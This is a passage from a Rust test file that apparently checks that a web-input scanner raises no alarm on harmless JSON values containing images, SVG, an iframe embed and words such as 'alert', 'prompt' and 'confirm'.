        r#"{"html":"<p><img src=\"/images/cat.png\" alt=\"a cat\"></p>"}"#,
        r#"{"icon":"<svg viewBox=\"0 0 10 10\"><path d=\"M0 0h10\"/></svg>"}"#,
        r#"{"embed":"<iframe src=\"https://video.example.com/embed/42\" allowfullscreen></iframe>"}"#,
        r#"{"code":"const answer = prompt(question); alert(answer)"}"#,
        r#"{"text":"Alert: your order is confirmed (confirm(ation) pending)"}"#,
        r#"{"settings":{"onboarding":true,"online":"yes"}}"#,
        r#"{"title":"Alert (3)","hint":"Prompt (1 of 3)"}"#,
        r#"{"text":"Please confirm (this cannot be undone)"}"#,
        r#"{"code":"if (confirm(\"Delete this item?\")) remove(id)"}"#,
        r#"{"text":"type the prompt `/imagine` and set the alert `5xx` threshold"}"#,
    ];
    assert_quiet(&run(ordinary_inputs(&queries, &bodies, &[])));
}
